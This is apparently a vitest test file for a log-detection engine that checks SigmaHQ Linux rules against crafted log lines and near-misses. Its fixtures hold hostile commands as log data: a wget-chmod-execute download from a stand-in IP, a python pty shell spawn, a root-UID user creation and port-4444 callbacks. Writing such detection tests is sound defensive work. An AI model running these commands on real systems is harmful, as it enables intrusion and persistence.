/** Real SigmaHQ Linux rules (test/fixtures/sigma/sigmahq) on crafted lines: their lines fire at their level, near-misses stay quiet. */
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { buildEventTable } from '../../../src/engine/features/eventTable'
import { HitSink } from '../../../src/engine/detect/rules/types'
import { loadRules } from '../../../src/engine/sigma/loadRules'
import { runSigma } from '../../../src/engine/sigma/runSigma'
import { buildSigmaSet } from '../../../src/engine/sigma/SigmaSet'
import type { NormalizedEvent } from '../../../src/shared/event'
import { ev } from './helpers'

const FIXTURES = join(__dirname, '../../fixtures/sigma')

async function sigmaOn(events: NormalizedEvent[], dirs = ['sigmahq', 'ours/callback_burst.yml']) {
  const loaded = await loadRules(dirs.map((d) => join(FIXTURES, d)))
  if (!loaded.ok) throw new Error(loaded.error.message)
  const set = buildSigmaSet(loaded.value.rules)
  const t = buildEventTable(events)
  const sink = new HitSink(t.n)
  const rowRules = runSigma(set, t, sink)
  // Back in input order: what fired on each event, and how strongly.
  return events.map((_, i) => {
    const row = t.order.indexOf(i)
    const best = sink.best[row]
    return { ids: rowRules.get(row) ?? [], strength: best < 0 ? 0 : sink.hits[best].strength, hit: best < 0 ? null : sink.hits[best] }
  })
}

const at = (min: number) => Date.UTC(2026, 11, 7, 3, min)

describe('SigmaHQ keyword rules', () => {
  it('fire on their lines at their level, not on near-misses', async () => {
    const lines = [
      /* 0 fires (medium) */ ev('Dec  7 03:00:01 web-01 sshd[411]: Corrupted MAC on input. [preauth]', { program: 'sshd' }),
      /* 1 fires (medium) */ ev('Dec  7 03:00:02 web-01 sshd[412]: error: Received disconnect: unknown or unsupported key type', { program: 'sshd' }),
      /* 2 near-miss: the keyword, but not from sshd (service: sshd) */ ev('Dec  7 03:00:03 web-01 kernel: Corrupted MAC on input', { program: 'kernel' }),
      /* 3 near-miss: half the phrase */ ev('Dec  7 03:00:04 web-01 sshd[413]: Corrupted MAC', { program: 'sshd' }),
      /* 4 fires (high): wget then chmod +x */ ev('Dec  7 03:01:00 web-01 bash[7]: cd /tmp; wget http://203.0.113.9/x; chmod +x x; ./x', { program: 'bash' }),
      /* 5 fires (high): reverse-shell helper */ ev("Dec  7 03:01:01 web-01 bash[7]: python -c 'import pty; pty.spawn(\"/bin/sh\")'", { program: 'bash' }),
      /* 6 near-miss: wget without chmod */ ev('Dec  7 03:01:02 web-01 bash[7]: wget http://deb.debian.org/x.deb', { program: 'bash' }),
      /* 7 fires (high): new user in the root group */ ev('Dec  7 03:02:00 web-01 useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash', { program: 'useradd' }),
      /* 8 near-miss: a new ordinary user */ ev('Dec  7 03:02:01 web-01 useradd[1338]: new user: name=anna, UID=1001, GID=1001, home=/home/anna, shell=/bin/bash', { program: 'useradd' }),
    ].map((e, i) => ({ ...e, ts: at(i) }))
    const out = await sigmaOn(lines)
    expect(out.map((o) => o.ids)).toEqual([
      ['e76b413a-83d0-4b94-8e4c-85db4a5b8bdc'],
      ['e76b413a-83d0-4b94-8e4c-85db4a5b8bdc'],
      [],
      [],
      ['2aa1440c-9ae9-4d92-84a7-a9e5f5e31695'],
      ['2aa1440c-9ae9-4d92-84a7-a9e5f5e31695'],
      [],
      ['0ac15ec3-d24f-4246-aa2a-3077bb1cf90e'],
      [],
    ])
    expect(out.map((o) => o.strength)).toEqual([0.75, 0.75, 0, 0, 0.88, 0.88, 0, 0.88, 0])
    expect(out[0].hit).toMatchObject({ threat_type: 'sigma', techniques: ['T1190'], tactics: ['Initial Access'], reason: 'Sigma: Suspicious OpenSSH Daemon Error' })
    expect(out[7].hit).toMatchObject({ techniques: ['T1136.001', 'T1098'], tactics: ['Privilege Escalation', 'Persistence'] })
    // Two lines of one rule on one host within the hour: one episode (one hit).
    expect(out[0].hit).toBe(out[1].hit)
  })
})

describe('a correlation over field conditions with cidr and not', () => {
  const conn = (ip: string, port: number, min: number, host = 'db-01') =>
    ev(JSON.stringify({ Computer: host, Initiated: 'true', DestinationIp: ip, DestinationPort: port }), { ts: at(min), host, source_file: 'sysmon.jsonl' })

  it('fires on the third callback from one host within ten minutes (CRITICAL), marking all three', async () => {
    const events = [
      conn('185.220.101.4', 4444, 0),
      conn('10.0.0.5', 4444, 1), // internal: the rule's filter (cidr 10.0.0.0/8) drops it
      conn('185.220.101.4', 4444, 2),
      conn('203.0.113.7', 80, 3), // not a callback port
      conn('198.51.100.2', 2222, 4),
      conn('198.51.100.2', 2222, 5, 'web-01'), // another host: its own group
    ]
    const out = await sigmaOn(events)
    const corr = '7f0a3c55-0c1e-4d5e-9b0a-3c1b2d4e5f60'
    expect(out.map((o) => o.ids)).toEqual([[corr], [], [corr], [], [corr], []])
    expect(out.map((o) => o.strength)).toEqual([0.96, 0, 0.96, 0, 0.96, 0])
    expect(out[0].hit).toMatchObject({ techniques: ['T1571'], tactics: ['Command and Control'] })
  })

  it('stays quiet on two callbacks, or three spread over more than ten minutes', async () => {
    expect((await sigmaOn([conn('185.220.101.4', 4444, 0), conn('185.220.101.4', 4444, 2)])).map((o) => o.ids.length)).toEqual([0, 0])
    expect((await sigmaOn([conn('185.220.101.4', 4444, 0), conn('185.220.101.4', 4444, 6), conn('185.220.101.4', 4444, 12)])).map((o) => o.ids.length)).toEqual([0, 0, 0])
  })
})

describe('a legacy aggregation', () => {
  it('is skipped with its reason and never fires', async () => {
    const loaded = await loadRules([join(FIXTURES, 'sigmahq/lnx_auditd_cve_2021_3156_sudo_buffer_overflow_brutforce.yml')])
    if (!loaded.ok) throw new Error(loaded.error.message)
    expect(loaded.value.rules).toEqual([])
    expect(loaded.value.entries).toEqual([
      expect.objectContaining({ status: 'skipped', id: 'b9748c98-9ea7-4fdb-80b6-29bed6ba71d2', reason: 'legacy aggregation in condition "selection | count() by host > 50" (use a correlation rule)' }),
    ])
  })
})
